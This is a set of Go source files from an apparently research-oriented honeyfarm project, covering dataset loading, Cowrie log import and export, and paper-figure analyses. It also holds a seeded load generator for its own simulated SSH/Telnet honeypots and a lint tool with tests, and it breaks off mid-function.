	return atomicio.WriteFile(path, d.Save)
}

// LoadDataset reads a JSONL dataset. The registry and seed must match
// the ones the dataset was generated with for geography analyses to be
// meaningful (the honeypot placement is re-derived from the seed).
func LoadDataset(r io.Reader, reg *Registry, numPots int, seed int64) (*Dataset, error) {
	st, err := store.ReadJSONL(r)
	if err != nil {
		return nil, err
	}
	d, err := emptyDataset(reg, numPots, seed)
	if err != nil {
		return nil, err
	}
	d.Store = st
	return d, nil
}

// ExportCowrie writes the dataset as a Cowrie-format JSON event stream
// (cowrie.json), for tools that consume real Cowrie logs.
func (d *Dataset) ExportCowrie(w io.Writer) error {
	return cowrielog.Export(w, d.Store.Records(), "honeyfarm")
}

// LoadCowrie imports a Cowrie JSON event log (from a real Cowrie
// deployment or a prior ExportCowrie) and wraps it as a Dataset, so real
// honeypot logs run through the same analysis pipeline.
func LoadCowrie(r io.Reader, reg *Registry, numPots int, seed int64) (*Dataset, error) {
	st, _, err := cowrielog.Import(r, cowrielog.ImportOptions{})
	if err != nil {
		return nil, err
	}
	d, err := emptyDataset(reg, numPots, seed)
	if err != nil {
		return nil, err
	}
	d.Store = st
	return d, nil
}

// emptyDataset builds the geography scaffolding shared by the loaders.
func emptyDataset(reg *Registry, numPots int, seed int64) (*Dataset, error) {
	if reg == nil {
		reg = NewRegistry(seed)
	}
	if numPots <= 0 {
		numPots = 221
	}
	numASes := 65
	var countries []string
	if numPots < len(geo.HoneyfarmCountries) {
		countries = geo.HoneyfarmCountries[:numPots]
		numASes = numPots
	}
	deployments, err := geo.Place(geo.PlacementConfig{
		Seed: seed, NumPots: numPots, NumASes: numASes,
		Countries: countries, Registry: reg, Residental: true,
	})
	if err != nil {
		deployments = nil
	}
	return &Dataset{
		Registry: reg, Deployments: deployments, NumPots: numPots,
		tagger: analysis.Tagger(defaultTagger()),
	}, nil
}

// LoadDatasetFile reads a JSONL dataset from a file.
func LoadDatasetFile(path string, reg *Registry, numPots int, seed int64) (*Dataset, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return LoadDataset(f, reg, numPots, seed)
}

// Merge folds another dataset's sessions into this one — the federated-
// honeyfarm operation the paper's Discussion proposes: independent
// operators pooling session records to widen hash visibility. Honeypot
// IDs from other are offset by this dataset's farm size so the two
// deployments stay distinguishable; cached aggregates are invalidated.
func (d *Dataset) Merge(other *Dataset) {
	offset := d.NumPots
	recs := other.Store.Records()
	merged := make([]*SessionRecord, len(recs))
	for i, r := range recs {
		cp := *r
		cp.HoneypotID += offset
		merged[i] = &cp
	}
	d.Store.AddBatch(merged)
	d.NumPots += other.NumPots
	d.Deployments = append(append([]geo.Deployment(nil), d.Deployments...), other.Deployments...)
	d.perPot = nil
	d.hashes = nil
	d.clients = nil
}

// Sessions returns the number of records.
func (d *Dataset) Sessions() int { return d.Store.Len() }

// Days returns the observation period length present in the data.
func (d *Dataset) Days() int { return d.Store.NumDays() }

// Classify applies the Figure 5 flow to one record.
func Classify(r *SessionRecord) Category { return analysis.Classify(r) }

// CategoryShares computes Table 1.
func (d *Dataset) CategoryShares() analysis.CategoryShares {
	return analysis.ComputeCategoryShares(d.Store)
}

// TopPasswords computes Table 2.
func (d *Dataset) TopPasswords(n int) []analysis.Counted {
	return analysis.TopPasswords(d.Store, n)
}

// TopCommands computes Table 3.
func (d *Dataset) TopCommands(n int) []analysis.Counted {
	return analysis.TopCommands(d.Store, n)
}

// TopClientVersions ranks recorded SSH client identification strings.
func (d *Dataset) TopClientVersions(n int) []analysis.Counted {
	return analysis.TopClientVersions(d.Store, n)
}

// Availability returns the per-honeypot availability table: observed
// sessions joined with the fault plan's downtime and drop counters (the
// paper's per-honeypot activity view). Fault-free datasets report full
// availability and zero drops for every pot.
func (d *Dataset) Availability() []analysis.PotAvailability {
	days := d.Days()
	if d.Faults != nil && d.Faults.Days > 0 {
		days = d.Faults.Days
	}
	return analysis.ComputeAvailability(d.Store, d.Faults, d.NumPots, days)
}

// PerHoneypot returns per-honeypot totals (Figures 2, 14, 18, 19),
// computed once and cached.
func (d *Dataset) PerHoneypot() []analysis.PerHoneypot {
	if d.perPot == nil {
		d.perPot = analysis.ComputePerHoneypot(d.Store, d.NumPots)
	}
	return d.perPot
}

// HashStats returns per-hash aggregates (Tables 4–6, Figures 17–22),
// computed once and cached.
func (d *Dataset) HashStats() []analysis.HashStat {
	if d.hashes == nil {
		d.hashes = analysis.ComputeHashStats(d.Store, d.tagger)
	}
	return d.hashes
}

// HashTable returns the top-n hash rows under the given sort key.
func (d *Dataset) HashTable(key analysis.HashSortKey, n int) []HashStat {
	hs := analysis.SortHashStats(d.HashStats(), key)
	if n < len(hs) {
		hs = hs[:n]
	}
	return hs
}

// DailySeries returns the percentile bands of daily per-honeypot session
// counts (Figure 4); cat -1 selects all categories (pass int(Category)
// for Figure 8's panels). topFraction > 0 restricts to the most active
// fraction of honeypots (Figures 3 and 9 use 0.05).
func (d *Dataset) DailySeries(cat int, topFraction float64) stats.Series {
	m := analysis.DailyMatrix(d.Store, d.NumPots, cat)
	if topFraction > 0 {
		ids := analysis.TopPotsByActivity(d.PerHoneypot(), topFraction)
		m = analysis.FilterMatrixPots(m, ids)
	}
	return analysis.PercentileSeries(m)
}

// CategoryTimeline computes Figure 6.
func (d *Dataset) CategoryTimeline() analysis.CategoryTimeline {
	return analysis.ComputeCategoryTimeline(d.Store)
}

// DurationECDFs computes Figure 7.
func (d *Dataset) DurationECDFs() [analysis.NumCategories]*stats.ECDF {
	return analysis.DurationECDFs(d.Store)
}

// ClientStats aggregates client IPs; cat -1 selects all categories.
// The all-categories result (Figures 12–14) is computed once and cached.
func (d *Dataset) ClientStats(cat int) []analysis.ClientStat {
	if cat != -1 {
		return analysis.ComputeClientStats(d.Store, cat)
	}
	if d.clients == nil {
		d.clients = analysis.ComputeClientStats(d.Store, -1)
	}
	return d.clients
}

// ClientCountries computes Figure 10/23; cats nil selects all.
func (d *Dataset) ClientCountries(cats map[Category]bool) []analysis.CountryCount {
	return analysis.ClientCountries(d.Store, d.Registry, cats)
}

// DailyUniqueClients computes Figure 11.
func (d *Dataset) DailyUniqueClients() [][analysis.NumCategories]int {
	return analysis.DailyUniqueClients(d.Store)
}

// CategoryCombos computes Figure 15's period totals.
func (d *Dataset) CategoryCombos() map[analysis.ComboKey]int {
	return analysis.TotalComboCounts(d.Store)
}

// RegionalDiversity computes Figure 16; cats nil selects all categories.
func (d *Dataset) RegionalDiversity(cats map[Category]bool) analysis.RegionalDiversity {
	return analysis.ComputeRegionalDiversity(d.Store, d.Registry, d.Deployments, cats)
}

// HashFreshness computes Figure 17.
func (d *Dataset) HashFreshness() analysis.HashFreshness {
	return analysis.ComputeHashFreshness(d.Store)
}

// HashVisibility summarizes Section 8.4's coverage numbers.
func (d *Dataset) HashVisibility() analysis.HashVisibility {
	return analysis.ComputeHashVisibility(d.HashStats(), d.NumPots)
}

// CampaignDurations computes Figure 22.
func (d *Dataset) CampaignDurations() map[string]*stats.ECDF {
	return analysis.CampaignDurationECDFs(d.HashStats())
}

// FirstSeenLeaders quantifies Section 8.4's early-detection claim: the
// overlap between the top-k honeypots by unique hashes and by
// first-sightings.
func (d *Dataset) FirstSeenLeaders(k int) analysis.FirstSeenLeaders {
	return analysis.ComputeFirstSeenLeaders(d.Store, d.NumPots, k)
}

// FederationGain measures the Discussion's federated-honeyfarm proposal:
// hash coverage of k independent sub-farms versus the federation.
func (d *Dataset) FederationGain(parts int) analysis.FederationGain {
	return analysis.ComputeFederationGain(d.Store, d.NumPots, parts)
}

// BlockingImpact evaluates the what-if of blocking long-lived small-IP
// campaigns graceDays after first sighting.
func (d *Dataset) BlockingImpact(minDays, maxIPs, graceDays int) analysis.BlockingImpact {
	return analysis.ComputeBlockingImpact(d.Store, d.HashStats(), minDays, maxIPs, graceDays)
}

// AbuseReports aggregates hostile activity per client AS for network
// notification — the coordination the paper's conclusion announces.
func (d *Dataset) AbuseReports(minSessions int) []analysis.AbuseReport {
	return analysis.ComputeAbuseReports(d.Store, d.Registry, minSessions)
}

// Summary prints a one-paragraph dataset overview.
func (d *Dataset) Summary(w io.Writer) {
	cs := d.CategoryShares()
	clients := d.ClientStats(-1)
	hs := d.HashStats()
	fmt.Fprintf(w, "dataset: %d sessions over %d days, %d honeypots, %d client IPs, %d unique hashes (SSH %.1f%%)\n",
		cs.Total, d.Days(), d.NumPots, len(clients), len(hs), 100*cs.SSHTotal)
}
