// Command loadgen is the open-loop load harness: it derives a
// deterministic arrival schedule from a seed (exponential
// inter-arrivals at -rate for -duration, session scripts drawn from
// the paper's Table 1 mix) and replays it as real SSH/Telnet traffic
// against a shard fleet's wire front or against an in-process netsim
// farm, then reports offered vs achieved rate, latency quantiles,
// schedule slip, and an error taxonomy as JSON.
//
// Against a live fleet (addr files written by `shard -wire-addr-file`):
//
//	loadgen -seed 1 -rate 40 -duration 3s -targets s0.addrs,s1.addrs \
//	        -check http://H0/metrics,http://H1/metrics
//
// Self-contained (netsim farm in-process, /metrics mounted):
//
//	loadgen -seed 1 -rate 200 -duration 5s -self-pots 8 -metrics-addr 127.0.0.1:0
//
// -plan-only prints the deterministic plan summary and exits: two runs
// with equal flags emit byte-identical output, which is how the smoke
// gate proves the offered load is reproducible.
//
// With -check, the run's completed count is reconciled against the
// sum of honeyfarm_wire_sessions_accepted_total across the given
// /metrics URLs; -require-clean turns any session error or
// reconciliation mismatch into a nonzero exit.
package main

import (
	"flag"
	"fmt"
	"log"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/farm"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/loadgen"
	"honeyfarm/internal/metrics"
	"honeyfarm/internal/netsim"
)

// wallNow is the harness's single wall-clock tap: the arrival schedule
// is seed-derived, only the driver's pacing and measurements read it.
//
//lint:ignore nondeterminism the driver paces and measures real wall time; the schedule itself is seed-derived
var wallNow = time.Now

func main() {
	seed := flag.Int64("seed", 1, "schedule seed; equal seeds offer identical load")
	rate := flag.Float64("rate", 50, "offered load in sessions per second")
	duration := flag.Duration("duration", 3*time.Second, "arrival window")
	concurrency := flag.Int("concurrency", 64, "max simultaneously open sessions")
	sessionTimeout := flag.Duration("session-timeout", 10*time.Second, "per-session wall-time cap")
	targetsFlag := flag.String("targets", "", "comma-separated wire addr files (lines: <pot> <ssh-addr> <telnet-addr>)")
	selfPots := flag.Int("self-pots", 0, "run an in-process netsim farm with this many pots instead of external targets")
	metricsAddr := flag.String("metrics-addr", "", "with -self-pots: mount the farm supervisor's /metrics on this address")
	checkFlag := flag.String("check", "", "comma-separated /metrics URLs; reconcile completed count against the summed wire-accepted counter")
	out := flag.String("out", "", "write the JSON report here (default stdout)")
	planOnly := flag.Bool("plan-only", false, "emit the deterministic plan summary and exit without driving load")
	requireClean := flag.Bool("require-clean", false, "exit 1 on any session error or reconciliation mismatch")
	flag.Parse()

	var (
		targets []loadgen.Target
		dial    loadgen.Dialer
		f       *farm.Farm
	)
	switch {
	case *selfPots > 0:
		var err error
		f, targets, dial, err = startSelfFarm(*seed, *selfPots, *metricsAddr)
		if err != nil {
			log.Fatalf("loadgen: self-farm: %v", err)
		}
		defer f.Stop()
	case *targetsFlag != "":
		var err error
		targets, err = readTargets(strings.Split(*targetsFlag, ","))
		if err != nil {
			log.Fatalf("loadgen: %v", err)
		}
		dial = loadgen.TCPDialer(5 * time.Second)
	default:
		fmt.Fprintln(os.Stderr, "usage: loadgen -targets <addr-files> | -self-pots N  [-rate R -duration D]")
		os.Exit(2)
	}

	plan, err := loadgen.BuildPlan(loadgen.PlanConfig{
		Seed: *seed, Rate: *rate, Duration: *duration, Targets: targets,
	})
	if err != nil {
		log.Fatalf("loadgen: %v", err)
	}

	if *planOnly {
		emit(*out, mustJSON(loadgen.Summarize(plan)))
		return
	}

	res, err := loadgen.Run(loadgen.Config{
		Plan:           plan,
		Dial:           dial,
		Concurrency:    *concurrency,
		SessionTimeout: *sessionTimeout,
		Now:            wallNow,
		Sleep:          time.Sleep,
	})
	if err != nil {
		log.Fatalf("loadgen: %v", err)
	}
	report := loadgen.BuildReport(res)

	// The output document: the run report, plus the reconciliation
	// verdict when a cross-check was requested.
	doc := struct {
		*loadgen.Report
		Reconciliation *loadgen.CheckResult `json:"reconciliation,omitempty"`
	}{Report: report}

	clean := len(report.Errors) == 0
	if *checkFlag != "" {
		check, err := loadgen.Reconcile(strings.Split(*checkFlag, ","),
			"honeyfarm_wire_sessions_accepted_total",
			float64(res.Completed), 50, time.Sleep)
		if err != nil {
			log.Fatalf("loadgen: reconcile: %v", err)
		}
		doc.Reconciliation = &check
		clean = clean && check.Match
	}
	if f != nil {
		// Self-farm reconciliation is in-process: the supervisor's
		// accepted counter must equal what the driver completed.
		accepted := waitFarmAccepted(f, res.Completed)
		doc.Reconciliation = &loadgen.CheckResult{
			Metric: "honeyfarm_farm_sessions_accepted_total",
			Want:   float64(res.Completed),
			Got:    float64(accepted),
			Match:  accepted == res.Completed,
		}
		clean = clean && doc.Reconciliation.Match
	}

	emit(*out, mustJSON(doc))
	if *requireClean && !clean {
		log.Fatalf("loadgen: run not clean: errors=%v reconciliation=%+v", report.Errors, doc.Reconciliation)
	}
}

// readTargets parses wire addr files ("<pot> <ssh-addr> <telnet-addr>"
// per line) into the plan's target list.
func readTargets(paths []string) ([]loadgen.Target, error) {
	var ts []loadgen.Target
	for _, p := range paths {
		b, err := os.ReadFile(strings.TrimSpace(p))
		if err != nil {
			return nil, err
		}
		for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
			fields := strings.Fields(line)
			if len(fields) != 3 {
				return nil, fmt.Errorf("%s: malformed addr line %q", p, line)
			}
			pot, err := strconv.Atoi(fields[0])
			if err != nil {
				return nil, fmt.Errorf("%s: bad pot id in %q", p, line)
			}
			ts = append(ts, loadgen.Target{Pot: pot, SSHAddr: fields[1], TelnetAddr: fields[2]})
		}
	}
	if len(ts) == 0 {
		return nil, fmt.Errorf("no targets in %v", paths)
	}
	return ts, nil
}

// startSelfFarm runs an in-process netsim farm and returns its targets
// and fabric dialer. When metricsAddr is non-empty the farm
// supervisor's /metrics is mounted there over real TCP.
func startSelfFarm(seed int64, pots int, metricsAddr string) (*farm.Farm, []loadgen.Target, loadgen.Dialer, error) {
	f, err := farm.New(farm.Config{
		Seed:     seed,
		NumPots:  pots,
		Registry: geo.NewRegistry(geo.Config{Seed: seed}),
	})
	if err != nil {
		return nil, nil, nil, err
	}
	if err := f.Start(); err != nil {
		return nil, nil, nil, err
	}
	targets := make([]loadgen.Target, pots)
	for i := 0; i < pots; i++ {
		ssh, tel := f.SSHAddr(i), f.TelnetAddr(i)
		targets[i] = loadgen.Target{
			Pot:        i,
			SSHAddr:    net.JoinHostPort(ssh.IP, strconv.Itoa(ssh.Port)),
			TelnetAddr: net.JoinHostPort(tel.IP, strconv.Itoa(tel.Port)),
		}
	}
	// Attacker source IPs rotate through a documentation block; the
	// fabric only needs them to be distinct-ish, not meaningful.
	var srcSeq atomic.Uint64
	dial := func(t loadgen.Target, ssh bool) (net.Conn, error) {
		addr := t.SSHAddr
		if !ssh {
			addr = t.TelnetAddr
		}
		host, portStr, err := net.SplitHostPort(addr)
		if err != nil {
			return nil, err
		}
		port, err := strconv.Atoi(portStr)
		if err != nil {
			return nil, err
		}
		src := fmt.Sprintf("198.51.100.%d", srcSeq.Add(1)%254+1)
		return f.Fabric().Dial(src, netsim.Addr{IP: host, Port: port})
	}
	if metricsAddr != "" {
		reg := metrics.NewRegistry()
		farm.RegisterFarmMetrics(reg, f)
		ln, err := net.Listen("tcp", metricsAddr)
		if err != nil {
			f.Stop()
			return nil, nil, nil, err
		}
		mux := http.NewServeMux()
		mux.Handle("/metrics", reg.Handler())
		//lint:ignore goroutine-hygiene process-lifetime metrics listener; it dies with the harness, there is nothing to join before exit
		go func() {
			if err := http.Serve(ln, mux); err != nil {
				log.Printf("loadgen: metrics server: %v", err)
			}
		}()
		log.Printf("loadgen: farm /metrics on http://%s/metrics", ln.Addr())
	}
	return f, targets, dial, nil
}

// waitFarmAccepted polls the supervisor's accepted counter up to a
// short deadline: records trail the last wire byte by the session
// handler's teardown.
func waitFarmAccepted(f *farm.Farm, want int) int {
	accepted := 0
	for i := 0; i < 100; i++ {
		accepted = f.Stats().Accepted
		if accepted >= want {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	return accepted
}

// mustJSON renders v as stable indented JSON.
func mustJSON(v any) []byte {
	b, err := loadgen.MarshalIndent(v)
	if err != nil {
		log.Fatalf("loadgen: marshal: %v", err)
	}
	return b
}

// emit writes the report to path (atomically — scripts read it the
// moment the process exits) or stdout.
func emit(path string, b []byte) {
	if path == "" {
		if _, err := os.Stdout.Write(b); err != nil {
			log.Fatalf("loadgen: stdout: %v", err)
		}
		return
	}
	if err := atomicio.WriteFileBytes(path, b); err != nil {
		log.Fatalf("loadgen: write %s: %v", path, err)
	}
}
