// Command analyze runs the full measurement pipeline over a stored
// dataset and prints every table and figure of the paper's evaluation.
//
// Usage:
//
//	analyze [-in dataset.jsonl] [-seed 1] [-pots 221] [-stride 30]
//
// The seed must match the one the dataset was generated with so the
// rebuilt geography registry agrees with the recorded client IPs.
package main

import (
	"flag"
	"log"
	"os"

	"honeyfarm"
)

func main() {
	in := flag.String("in", "dataset.jsonl", "input dataset")
	cowrie := flag.Bool("cowrie", false, "input is a Cowrie JSON event log instead of this repo's JSONL")
	seed := flag.Int64("seed", 1, "registry seed used at generation time")
	pots := flag.Int("pots", 221, "number of honeypots in the dataset")
	stride := flag.Int("stride", 30, "time-series row stride in days")
	flag.Parse()

	reg := honeyfarm.NewRegistry(*seed)
	var d *honeyfarm.Dataset
	var err error
	if *cowrie {
		f, ferr := os.Open(*in)
		if ferr != nil {
			log.Fatalf("opening log: %v", ferr)
		}
		defer f.Close()
		d, err = honeyfarm.LoadCowrie(f, reg, *pots, *seed)
	} else {
		d, err = honeyfarm.LoadDatasetFile(*in, reg, *pots, *seed)
	}
	if err != nil {
		log.Fatalf("loading dataset: %v", err)
	}
	d.WriteReport(os.Stdout, honeyfarm.ReportOptions{SeriesStride: *stride})
}
