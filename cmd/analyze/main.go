// Command analyze runs the full measurement pipeline over a stored
// dataset and prints every table and figure of the paper's evaluation.
//
// Usage:
//
//	analyze [-in dataset.jsonl] [-seed 1] [-pots 221] [-stride 30] [-tables table1,figure15]
//
// The seed must match the one the dataset was generated with so the
// rebuilt geography registry agrees with the recorded client IPs.
// -tables restricts output to the named report sections (and skips the
// reduces the selection does not need); each selected block is
// byte-identical to its block in the full report.
package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"strings"

	"honeyfarm"
)

// parseTables splits and validates a -tables argument against the
// report's section names; empty selects everything.
func parseTables(arg string) ([]string, error) {
	if arg == "" {
		return nil, nil
	}
	valid := map[string]bool{}
	for _, name := range honeyfarm.ReportTables() {
		valid[name] = true
	}
	var tables []string
	for _, name := range strings.Split(arg, ",") {
		name = strings.TrimSpace(name)
		if name == "" {
			continue
		}
		if !valid[name] {
			return nil, fmt.Errorf("unknown table %q (valid: %s)", name, strings.Join(honeyfarm.ReportTables(), ", "))
		}
		tables = append(tables, name)
	}
	return tables, nil
}

func main() {
	in := flag.String("in", "dataset.jsonl", "input dataset")
	cowrie := flag.Bool("cowrie", false, "input is a Cowrie JSON event log instead of this repo's JSONL")
	seed := flag.Int64("seed", 1, "registry seed used at generation time")
	pots := flag.Int("pots", 221, "number of honeypots in the dataset")
	stride := flag.Int("stride", 30, "time-series row stride in days")
	tablesArg := flag.String("tables", "", "comma-separated report sections to render (default: all)")
	flag.Parse()

	tables, err := parseTables(*tablesArg)
	if err != nil {
		log.Fatalf("-tables: %v", err)
	}

	reg := honeyfarm.NewRegistry(*seed)
	var d *honeyfarm.Dataset
	if *cowrie {
		f, ferr := os.Open(*in)
		if ferr != nil {
			log.Fatalf("opening log: %v", ferr)
		}
		defer f.Close()
		d, err = honeyfarm.LoadCowrie(f, reg, *pots, *seed)
	} else {
		d, err = honeyfarm.LoadDatasetFile(*in, reg, *pots, *seed)
	}
	if err != nil {
		log.Fatalf("loading dataset: %v", err)
	}
	d.WriteReport(os.Stdout, honeyfarm.ReportOptions{SeriesStride: *stride, Tables: tables})
}
