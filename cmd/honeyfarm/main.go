// Command honeyfarm generates a calibrated synthetic honeyfarm dataset —
// the substitute for the paper's proprietary 402M-session collection —
// and writes it as JSONL for later analysis with cmd/analyze.
//
// Usage:
//
//	honeyfarm [-sessions 400000] [-days 486] [-pots 221] [-seed 1] -out dataset.jsonl
//	honeyfarm -scenario custom.json -out dataset.jsonl
//
// A scenario file (see internal/scenario) can override the category
// mix, protocol splits, spike schedule, and campaign generation.
package main

import (
	"flag"
	"fmt"
	"io"
	"log"
	"os"

	"honeyfarm"
	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/scenario"
	"honeyfarm/internal/workload"
)

func main() {
	sessions := flag.Int("sessions", 400_000, "total sessions to generate (paper scale: 402,000,000)")
	days := flag.Int("days", 486, "observation period length in days")
	pots := flag.Int("pots", 221, "number of honeypots")
	seed := flag.Int64("seed", 1, "generation seed")
	scenarioPath := flag.String("scenario", "", "JSON scenario file overriding the paper's calibration")
	out := flag.String("out", "dataset.jsonl", "output path ('-' for stdout; files are written atomically)")
	format := flag.String("format", "jsonl", "output format: jsonl (this repo) or cowrie (cowrie.json events)")
	walDir := flag.String("wal-dir", "", "checkpoint directory: completed generation shards are persisted to a write-ahead log there")
	resume := flag.Bool("resume", false, "continue an interrupted run from -wal-dir (byte-identical to an uninterrupted run)")
	flag.Parse()

	var d *honeyfarm.Dataset
	if *scenarioPath != "" {
		cfg, err := scenario.LoadFile(*scenarioPath)
		if err != nil {
			log.Fatalf("scenario: %v", err)
		}
		if cfg.Seed == 0 {
			cfg.Seed = *seed
		}
		if *walDir != "" {
			cfg.CheckpointDir = *walDir
		}
		if *resume {
			cfg.Resume = true
		}
		cfg.Registry = geo.NewRegistry(geo.Config{Seed: cfg.Seed})
		res, err := workload.Generate(cfg)
		if err != nil {
			log.Fatalf("simulate: %v", err)
		}
		d = honeyfarm.NewDatasetFromResult(res, cfg.Registry, cfg.NumPots)
	} else {
		var err error
		d, err = honeyfarm.Simulate(honeyfarm.SimulateConfig{
			Seed:          *seed,
			TotalSessions: *sessions,
			Days:          *days,
			NumPots:       *pots,
			CheckpointDir: *walDir,
			Resume:        *resume,
		})
		if err != nil {
			log.Fatalf("simulate: %v", err)
		}
	}
	d.Summary(os.Stderr)
	save := d.Save
	if *format == "cowrie" {
		save = d.ExportCowrie
	} else if *format != "jsonl" {
		log.Fatalf("unknown format %q", *format)
	}
	if *out == "-" {
		if err := save(os.Stdout); err != nil {
			log.Fatalf("writing dataset: %v", err)
		}
		return
	}
	if err := atomicio.WriteFile(*out, func(w io.Writer) error { return save(w) }); err != nil {
		log.Fatalf("writing dataset: %v", err)
	}
	fmt.Fprintf(os.Stderr, "wrote %d sessions to %s\n", d.Sessions(), *out)
}
