package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// scratchModule materializes a throwaway module so each exit-code path
// runs against a real `go list` load.
func scratchModule(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	files["go.mod"] = "module scratch\n\ngo 1.22\n"
	for name, src := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

const cleanSrc = `package scratch

func Add(a, b int) int { return a + b }
`

const findingSrc = `package scratch

import "errors"

func mayFail() error { return errors.New("boom") }

func Fire() { mayFail() }
`

const typeErrorSrc = `package scratch

func Broken() { undefinedFunction() }
`

// TestExitCodes drives the documented taxonomy through run(): 0 clean,
// 1 findings, 2 load/type error — plus the -rules filter on both sides
// of the findings boundary.
func TestExitCodes(t *testing.T) {
	for _, tc := range []struct {
		name     string
		src      string
		args     []string
		wantExit int
		wantOut  string // substring of stdout, "" = don't care
	}{
		{name: "clean", src: cleanSrc, wantExit: 0},
		{name: "findings", src: findingSrc, wantExit: 1, wantOut: "error-discard"},
		{name: "type error", src: typeErrorSrc, wantExit: 2},
		{name: "findings filtered out", src: findingSrc,
			args: []string{"-rules", "nondeterminism"}, wantExit: 0},
		{name: "findings filtered in", src: findingSrc,
			args: []string{"-rules", "error-discard,nondeterminism"}, wantExit: 1, wantOut: "error-discard"},
		{name: "unknown rule", src: cleanSrc,
			args: []string{"-rules", "no-such-rule"}, wantExit: 2},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := scratchModule(t, map[string]string{"scratch.go": tc.src})
			var stdout, stderr bytes.Buffer
			args := append([]string{"-no-cache"}, tc.args...)
			args = append(args, "./...")
			if got := run(dir, args, &stdout, &stderr); got != tc.wantExit {
				t.Fatalf("exit %d, want %d\nstdout:\n%s\nstderr:\n%s", got, tc.wantExit, stdout.String(), stderr.String())
			}
			if tc.wantOut != "" && !strings.Contains(stdout.String(), tc.wantOut) {
				t.Fatalf("stdout missing %q:\n%s", tc.wantOut, stdout.String())
			}
		})
	}
}

// TestJSONAndCacheStreams pins the stream contract check.sh depends on:
// the -json report goes to stdout and is byte-identical between a cold
// and a warm run, while cache statistics go to stderr only.
func TestJSONAndCacheStreams(t *testing.T) {
	dir := scratchModule(t, map[string]string{"scratch.go": cleanSrc})
	cache := filepath.Join(dir, "cache")
	runOnce := func() (string, string) {
		var stdout, stderr bytes.Buffer
		if got := run(dir, []string{"-json", "-cache-dir", cache, "./..."}, &stdout, &stderr); got != 0 {
			t.Fatalf("exit %d\nstderr:\n%s", got, stderr.String())
		}
		return stdout.String(), stderr.String()
	}
	coldOut, coldErr := runOnce()
	warmOut, warmErr := runOnce()
	if coldOut != warmOut {
		t.Errorf("cold and warm -json stdout differ:\ncold:\n%s\nwarm:\n%s", coldOut, warmOut)
	}
	if strings.Contains(coldOut, "cache") {
		t.Errorf("cache statistics leaked into stdout:\n%s", coldOut)
	}
	if !strings.Contains(coldErr, "0 hit(s)") {
		t.Errorf("cold stderr should report 0 hits:\n%s", coldErr)
	}
	if !strings.Contains(warmErr, "0 miss(es)") {
		t.Errorf("warm stderr should report 0 misses:\n%s", warmErr)
	}
	if !strings.Contains(coldOut, `"schema": "honeyfarm-lint-report-v1"`) {
		t.Errorf("report schema missing from -json output:\n%s", coldOut)
	}
}
