// Command lint runs the repository's static-analysis suite (see
// internal/lint): determinism of the simulation path, goroutine hygiene,
// error discards, lock copies, wire codec symmetry, and loop bounds.
//
// Usage:
//
//	lint [-json] [-rule nondeterminism,error-discard] [packages]
//
// With no packages it analyzes ./.... Exit codes: 0 clean, 1 findings,
// 2 usage or load failure — so CI can distinguish "violations" from
// "the linter itself broke".
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"

	"honeyfarm/internal/lint"
)

func main() {
	jsonOut := flag.Bool("json", false, "emit findings as a JSON array")
	rules := flag.String("rule", "", "comma-separated rule subset (default: all rules)")
	list := flag.Bool("list", false, "list available rules and exit")
	flag.Parse()

	if *list {
		for _, a := range lint.All() {
			fmt.Printf("%-18s %s\n", a.Name, a.Doc)
		}
		return
	}

	analyzers, err := lint.ByName(*rules)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}

	root, err := lint.FindModuleRoot(".")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	patterns := flag.Args()
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	pkgs, err := lint.NewLoader(root).Load(patterns...)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}

	findings := lint.Run(pkgs, analyzers)
	if *jsonOut {
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(findings); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
	} else {
		for _, f := range findings {
			fmt.Println(f)
		}
	}
	if len(findings) > 0 {
		if !*jsonOut {
			fmt.Fprintf(os.Stderr, "lint: %d finding(s) across %d package(s)\n", len(findings), len(pkgs))
		}
		os.Exit(1)
	}
}
