// Command lint runs the repository's static-analysis suite (see
// internal/lint): the per-package rules (determinism of the simulation
// path, goroutine hygiene, error discards, lock copies, wire codec
// symmetry, loop bounds) and the cross-package contract rules
// (determinism-taint, atomicio-bypass, timer-commit, snapshot-mutation,
// lock-across-blocking) driven by the parallel, cached analysis engine.
//
// Usage:
//
//	lint [-json] [-rules nondeterminism,error-discard] [-baseline file|off]
//	     [-cache-dir dir] [-no-cache] [packages]
//
// With no packages it analyzes ./.... Findings covered by the baseline
// (default <module>/lint.baseline.json when present; -baseline off
// disables) are grandfathered; everything else is reported. Results are
// cached per package under -cache-dir (default <module>/.lintcache)
// keyed by source content, rule set and dependency facts, so a warm run
// over an unchanged tree re-analyzes nothing; cache hit/miss counts go
// to stderr, never stdout.
//
// Exit codes:
//
//	0  clean — no findings beyond the baseline
//	1  findings — contract violations (or stale baseline entries) to fix
//	2  the linter itself failed — bad usage, load error, or type error
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"

	"honeyfarm/internal/lint"
)

func main() {
	os.Exit(run(".", os.Args[1:], os.Stdout, os.Stderr))
}

// run is main with the process edges injected so the exit-code
// taxonomy is table-testable: dir anchors module discovery, args are
// the command-line arguments, and the exit code is returned instead of
// passed to os.Exit.
func run(dir string, args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("lint", flag.ContinueOnError)
	fs.SetOutput(stderr)
